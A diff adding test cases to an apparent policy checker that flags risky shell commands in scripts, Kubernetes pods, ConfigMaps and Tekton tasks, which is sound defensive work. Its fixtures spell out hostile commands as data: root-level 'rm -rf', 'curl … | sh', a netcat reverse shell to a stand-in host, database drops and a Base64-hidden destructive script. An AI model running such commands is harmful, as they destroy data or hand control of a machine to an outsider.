@@ -86,6 +86,63 @@ describe('row 16: shell', () => {
   });
 });
 
+describe('row 16: the same words that do something else', () => {
+  it.each<[rule: string, what: string, before: string, after: string]>([
+    ['shell/no-root-delete', 'another folder', 'cd build\nrm -rf ./*', 'cd /\nrm -rf ./*'], ['shell/no-root-delete', 'another value', 'D=build\nrm -rf "$D"', 'D=/\nrm -rf "$D"'], ['shell/no-data-destroy', 'another statement', 'C="SELECT 1"\npsql -c "$C"', 'C="DROP TABLE orders"\npsql -c "$C"'],
+    ['shell/outside-delete-review', 'another machine', 'sh <<EOF\nrm -rf data\nEOF', 'ssh prod <<EOF\nrm -rf data\nEOF'], ['shell/no-pipe-to-shell', 'another source', 'cat x | sh', 'curl https://x.example | sh'],
+  ])('%s stops %s', async (rule, _what, before, after) => {
+    expect(await stoppedBy({ 'scripts/a.sh': `${after}\n` }, { 'scripts/a.sh': `${before}\n` })).toContain(rule);
+    expect(await stoppedBy({ 'scripts/a.sh': `${before}\nls\n` }, { 'scripts/a.sh': `${before}\n` })).toEqual([]);
+  });
+});
+
+describe('row 16: packages of a registry', () => {
+  const before = {
+    'package.json': '{ "name": "own", "bin": "x.js", "devDependencies": { "jest": "1", "typescript": "1", "@scope/tool": "1", "@thing/cli": "1" } }', 'pyproject.toml': '[project]\ndependencies = [\n  "Ruff>=0.5",\n  "my_lib",\n]\n', 'requirements.txt': 'black==24.4.2\n',
+    'web/package-lock.json': '{ "lockfileVersion": 3, "packages": { "": {}, "node_modules/a": { "bin": { "a-tool": "x.js" } }, "node_modules/a/node_modules/deep": {} } }',
+  };
+  const stopped = (text: string): Promise<readonly string[]> => stoppedBy({ ...before, 'scripts/a.sh': `${text}\n` }, before);
+  it.each([
+    ['npx jest'], ['npx tsc'], ['npx jest@29.7.0'], ['npx thing'], ['npx own'], ['npx a-tool'], ['npx -p typescript tsc'], ['npm install'], ['npm ci'], ['npm install -D jest'], ['npm i -g npm@10'], ['npm init -y'], ['uvx ruff@0.5.1'], ['uvx --from black==24.4.2 black'], ['pip install -r requirements.txt'], ['pip install my-lib'],
+    ['pip install --upgrade pip'], ['pip install -e .'], ['python -m pip install ruff'], ['pnpm dlx jest@29.7.0'],
+  ])('of the repository pass: %s', async (text) => {
+    expect(await stopped(text)).toEqual([]);
+  });
+  it.each([
+    ['npx create-x'], ['npx -y create-x@1.0.0'], ['npx jest@latest'], ['npx deep'], ['npx -p create-x tsc'], ['bunx create-x'], ['pnpm dlx jest'], ['yarn dlx create-x'], ['npm exec -- create-x'], ['npm x create-x'], ['npm init x'], ['npm install left-pad'], ['yarn add left-pad'], ['npm i -g left-pad'],
+    ['uvx ruff'], ['uvx poetry-x@1.0.0'], ['uv run --with rich x.py'], ['uv tool install rich'], ['pipx run black'], ['pip install rich'], ['python3 -m pip install rich'], ['sudo pip3 install rich'],
+  ])('of elsewhere wait for a person: %s', async (text) => {
+    expect(await stopped(text)).toEqual(['shell/package-review']);
+  });
+  it('do not become those of the repository by the change itself', async () => {
+    expect(await stoppedBy({ 'package.json': '{ "devDependencies": { "create-x": "1" } }', 'scripts/a.sh': 'npx create-x\n' }, { 'package.json': '{}' })).toEqual(expect.arrayContaining(['code/dependency-review', 'shell/package-review']));
+  });
+});
+
+describe('row 17: commands in pods', () => {
+  const IMAGE = `x.example/a@sha256:${'a'.repeat(64)}`;
+  const pod = (container: string, more = ''): string => `apiVersion: v1\nkind: Pod\nmetadata: { name: a, namespace: shop }\nspec:\n  containers:\n    - name: a\n      image: ${IMAGE}\n${container}${more}`;
+  it.each<[rule: string, what: string, text: string]>([
+    ['shell/no-pipe-to-shell', 'a command', pod('      command: [sh, -c, "curl https://x.example | sh"]\n')], ['shell/no-force-push', 'arguments', pod('      command: [/bin/bash]\n      args: [-ec, "git push --force origin main"]\n')], ['shell/infrastructure-review', 'a program', pod('      command: [kubectl, delete, ns, shop]\n')],
+    ['shell/no-data-destroy', 'a literal block', pod('      command:\n        - sh\n        - -c\n        - |\n          set -e\n          dropdb shop\n')], ['shell/no-data-destroy', 'a variable of it', pod('      command: [sh, -c, "$CMD"]\n      env: [{ name: CMD, value: dropdb shop }]\n')],
+    ['shell/no-raw-sockets', 'a hook', pod('      lifecycle: { postStart: { exec: { command: [sh, -c, "nc -e /bin/sh x.example 1"] } } }\n')], ['shell/no-pipe-to-shell', 'a probe', pod('      livenessProbe: { exec: { command: [sh, -c, "curl https://x.example | sh"] } }\n')],
+    ['shell/no-pipe-to-shell', 'an init container', pod('', `  initContainers:\n    - { name: b, image: ${IMAGE}, command: [sh, -c, "curl https://x.example | sh"] }\n`)],
+    ['shell/outside-delete-review', 'a volume that lasts', pod('      command: [sh, -c, "rm -rf /data/*"]\n      volumeMounts: [{ name: d, mountPath: /data }]\n', '  volumes: [{ name: d, persistentVolumeClaim: { claimName: x } }]\n')],
+    ['shell/infrastructure-review', 'a CronJob', `apiVersion: batch/v1\nkind: CronJob\nmetadata: { name: a, namespace: shop }\nspec: { schedule: "* * * * *", jobTemplate: { spec: { template: { spec: { containers: [{ name: a, image: "${IMAGE}", command: [aws, s3, rm, --recursive, "s3://b"] }] } } } } }\n`],
+    ['shell/no-data-destroy', 'a script in a ConfigMap', 'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: a, namespace: shop }\ndata:\n  run.sh: |\n    dropdb shop\n'], ['shell/no-data-destroy', 'one by its first line', 'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: a, namespace: shop }\ndata:\n  run: |\n    #!/bin/sh\n    dropdb shop\n'],
+    ['shell/no-data-destroy', 'one in Base64', `apiVersion: v1\nkind: ConfigMap\nmetadata: { name: a, namespace: shop }\nbinaryData: { run: ${Buffer.from('#!/bin/sh\ndropdb shop\n').toString('base64')} }\n`], ['shell/no-pipe-to-shell', 'a step of Tekton', 'apiVersion: tekton.dev/v1\nkind: Task\nmetadata: { name: a, namespace: shop }\nspec:\n  steps:\n    - image: x\n      script: |\n        curl https://x.example | sh\n'],
+  ])('%s stops %s', async (rule, _what, text) => {
+    expect(await stoppedBy({ 'k8s/a.yaml': text })).toContain(rule);
+    expect(await stoppedBy({ 'ci/a.yaml': `# script:\n${text}` })).toContain(rule);
+  });
+  it.each([
+    [pod('      command: [node, server.js]\n')], [pod('      command: [sh, -c, "rm -rf /data/*; chown -R 1 /data; exec node server.js"]\n      volumeMounts: [{ name: d, mountPath: /data }]\n', '  volumes: [{ name: d, emptyDir: {} }]\n')], [pod('      command: [sh, -c, "echo $(A)"]\n      env: [{ name: A, value: rm }]\n')],
+    ['apiVersion: v1\nkind: ConfigMap\nmetadata: { name: a, namespace: shop }\ndata:\n  run.sh: |\n    exec node server.js\n  py: |\n    #!/usr/bin/env python3\n    x\n  notes: curl https://x.example | sh\n'],
+  ])('lets pass %j', async (text) => {
+    expect((await stoppedBy({ 'k8s/a.yaml': text })).filter((rule) => rule.startsWith('shell/') || rule === UNKNOWN)).toEqual([]);
+  });
+});
+
 describe('row 17: Kubernetes', () => {
   const pod = (more: string, kind = 'Pod'): string => `apiVersion: v1\nkind: ${kind}\n${more}`;
   const SPEC = `spec: { containers: [{ name: a, image: "x.example/a@sha256:${'a'.repeat(64)}" }] }`;
